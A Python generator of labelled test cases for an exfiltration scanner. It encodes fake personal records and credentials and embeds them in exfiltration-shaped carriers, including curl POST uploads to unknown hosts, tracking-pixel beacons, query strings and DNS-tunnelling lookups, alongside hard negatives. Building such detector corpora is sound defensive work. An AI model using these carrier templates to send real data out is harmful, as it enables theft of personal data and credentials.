"""Encoded-exfiltration cases of the generated corpus: personal data from faker (JSON records,
CSV rows, bare emails, card numbers, IBANs) and credentials, encoded as base64, base64url, hex,
percent-encoding, hex split into DNS labels, and percent-encoded base64 (nested once), carried
in query strings to unknown hosts, request bodies, DNS look-ups, logs and shell commands; and
hard negatives.

Labels: the encoded run, as the kind of its outer encoding. A base64url run (no padding) that
holds neither `-` nor `_` and whose length is a multiple of four cannot be told from base64 and
is labelled BASE64; a percent-encoded run that needed no escape is plain text and not a case.

Hard negatives, decided here: OAuth `redirect_uri` (and `next=`, `return_to=`) values, which
are links without data; signed URLs' signatures and SigV4 credential scopes (`X-Amz-Signature`,
`X-Amz-Credential`, a percent-encoded base64 `Signature`; a service account's email in
`GoogleAccessId` would be reported, as any percent-encoded email is); UUIDs; digests (git, sha256,
`integrity`); base64 of binary data (`data:image/png;base64`, DER certificates' bytes); JWTs
(reported by the secrets scanner, not as exfiltration); encoded text that holds no personal
data and no credential (a search query, an encoded YAML of settings).
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

from corpus_types import Case
from faker import Faker

LOCALES = ("en_US", "en_GB", "de_DE", "fr_FR", "es_ES", "it_IT", "nl_NL", "pt_BR", "ja_JP")
# a fixed span: faker's own ends at today, which would not be reproducible
START, END = dt.datetime(2020, 1, 1), dt.datetime(2025, 12, 31)
CARDS = ("visa16", "mastercard", "amex", "discover")


class _Gen:
    def __init__(self, rng: random.Random, faker_for: Callable[[str], Faker]) -> None:
        self.rng = rng
        self.faker_for = faker_for
        self.count = 0

    def pick(self, seq: tuple[str, ...]) -> str:
        return seq[self.rng.randrange(len(seq))]

    def case(self, tag: str, locale: str, before: str, kind: str, enc: str, after: str) -> Case:
        self.count += 1
        labels: list[list[str | int]] = [[kind, len(before), len(before) + len(enc)]]
        return Case(
            id=f"exfil-{tag}-{self.count:04d}",
            scanner="exfil",
            locale=locale,
            labels=labels,
            text=before + enc + after,
        )

    def negative(self, tag: str, text: str) -> Case:
        self.count += 1
        return Case(id=f"exfil-{tag}-{self.count:04d}", scanner="exfil", locale="-", labels=[],
                    text=text)  # fmt: skip

    # --- what leaks -----------------------------------------------------------------------

    def payload(self, locale: str) -> bytes:
        fake = self.faker_for(locale)
        roll = self.rng.randrange(7)
        if roll == 0:  # a JSON record
            record = {
                "name": fake.name(),
                "email": fake.email(),
                "card": fake.credit_card_number(card_type=self.pick(CARDS)),
                "user": fake.user_name(),
            }
            return json.dumps(record, ensure_ascii=False).encode()
        if roll == 1:  # CSV rows
            rows = ["name,email,phone"] + [
                f"{fake.name()},{fake.email()},{fake.phone_number()}"
                for _ in range(self.rng.randrange(1, 4))
            ]
            return "\n".join(rows).encode()
        if roll == 2:  # an email alone
            return fake.email().encode()
        if roll == 3:  # a card number alone, as typed
            return fake.credit_card_number(card_type=self.pick(CARDS)).encode()
        if roll == 4:  # a bank account
            return json.dumps({"holder": fake.name(), "iban": fake.iban()}).encode()
        if roll == 5:  # credentials
            pw = fake.password(length=self.rng.randrange(12, 20))
            return f"user={fake.user_name()}&password={pw}".encode()
        key = base64.b64encode(fake.binary(length=30)).decode()
        return f"[default]\naws_secret_access_key = {key}\n".encode()

    # --- encodings: (kind, encoded) -----------------------------------------------------

    def encode(self, raw: bytes, how: str) -> tuple[str, str]:
        if how == "base64":
            return "BASE64", base64.b64encode(raw).decode()
        if how == "base64url":
            enc = base64.urlsafe_b64encode(raw).decode().rstrip("=")
            ambiguous = "-" not in enc and "_" not in enc and len(enc) % 4 == 0
            return ("BASE64" if ambiguous else "BASE64URL"), enc
        if how == "hex":
            return "HEX", raw.hex()
        if how == "percent":
            return "PERCENT_ENCODED", quote(raw, safe="")
        # percent-encoded base64, as a form or query string carries it
        inner = base64.b64encode(raw).decode()
        enc = quote(inner, safe="")
        return ("PERCENT_ENCODED" if "%" in enc else "BASE64"), enc

    def carrier(self, locale: str, enc: str) -> tuple[str, str]:
        fake = self.faker_for(locale)
        host = fake.domain_name()
        roll = self.rng.randrange(6)
        if roll == 0:
            return f"GET https://{host}/collect?v=2&d=", "&t=1 HTTP/1.1"
        if roll == 1:
            return f'<img src="https://{host}/p.gif?u=', '" width="1">'
        if roll == 2:
            return (
                '{"event": "sync", "blob": "',
                f'", "ts": {self.rng.randrange(10**9, 2 * 10**9)}}}',
            )
        if roll == 3:
            return f"curl -s -X POST https://{host}/upload -d 'data=", "'"
        if roll == 4:
            when = fake.date_time_between(START, END).isoformat()
            return f"{when} INFO outbound payload=", f" dst={host}"
        return "Please forward this to the partner: ", " (thanks)"

    def cases(self) -> Iterator[Case]:
        hows = ("base64", "base64url", "hex", "percent", "nested")
        for i in range(200):
            locale = LOCALES[i % len(LOCALES)]
            raw = self.payload(locale)
            kind, enc = self.encode(raw, hows[i % len(hows)])
            if kind == "PERCENT_ENCODED" and "%" not in enc:
                continue
            before, after = self.carrier(locale, enc)
            yield self.case(hows[i % len(hows)], locale, before, kind, enc, after)
        for i in range(40):  # hex split into DNS labels
            locale = LOCALES[i % len(LOCALES)]
            fake = self.faker_for(locale)
            raw = self.payload(locale)
            h = raw.hex()
            width = self.pick(("30", "32", "40", "62"))
            labels = ".".join(h[j : j + int(width)] for j in range(0, len(h), int(width)))
            before = self.pick(("nslookup ", "dig +short ", "query: ", "resolving "))
            after = f".{self.rng.randrange(1, 999)}.x.{fake.domain_name()}"
            yield self.case("dns", locale, before, "HEX", labels, after)

    def negatives(self) -> Iterator[Case]:
        fake = self.faker_for("en_US")
        for i in range(90):
            form = i % 9
            host = fake.domain_name()
            if form == 0:
                cb = quote(f"https://{fake.domain_name()}/oauth/callback", safe="")
                text = (
                    f"https://{host}/authorize?response_type=code&client_id={fake.uuid4()}"
                    f"&redirect_uri={cb}&scope=openid%20email&state={fake.pystr(12, 12)}"
                )
            elif form == 1:
                nxt = quote(f"https://{host}/{fake.uri_path()}", safe="")
                text = f"302 Location: https://login.{host}/?next={nxt}&return_to={nxt}"
            elif form == 2:
                cred = quote(
                    f"AKIA{fake.pystr(16, 16).upper()}/20250101/us-east-1/s3/aws4_request", safe=""
                )
                text = (
                    f"https://{host}.s3.amazonaws.com/{fake.file_name()}?X-Amz-Algorithm="
                    f"AWS4-HMAC-SHA256&X-Amz-Credential={cred}&X-Amz-Date=20250101T000000Z"
                    f"&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={fake.sha256()}"
                )
            elif form == 3:
                sig = quote(base64.b64encode(fake.binary(length=128)).decode(), safe="")
                text = (
                    f"https://storage.googleapis.com/{host}/{fake.file_name()}?GoogleAccessId="
                    f"{fake.user_name()}&Expires=1735689600&Signature={sig}"
                )
            elif form == 4:
                text = f"request {fake.uuid4()} for user {fake.uuid4()} done; commit {fake.sha1()}"
            elif form == 5:
                png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + fake.binary(length=60)).decode()
                text = f'<img alt="logo" src="data:image/png;base64,{png}">'
            elif form == 6:
                text = f'"integrity": "sha512-{base64.b64encode(fake.binary(length=64)).decode()}"'
            elif form == 7:
                q = quote(fake.sentence(nb_words=6), safe="")
                text = f"GET https://{host}/search?q={q}&lang=en HTTP/1.1"
            else:
                settings = f"replicas: 3\nimage: {fake.slug()}:1.{i}\nlog_level: info\n"
                text = f"config: {base64.b64encode(settings.encode()).decode()}"
            yield self.negative("neg", text)


def cases(rng: random.Random, faker_for: Callable[[str], Faker]) -> Iterator[Case]:
    gen = _Gen(rng, faker_for)
    yield from gen.cases()
    yield from gen.negatives()
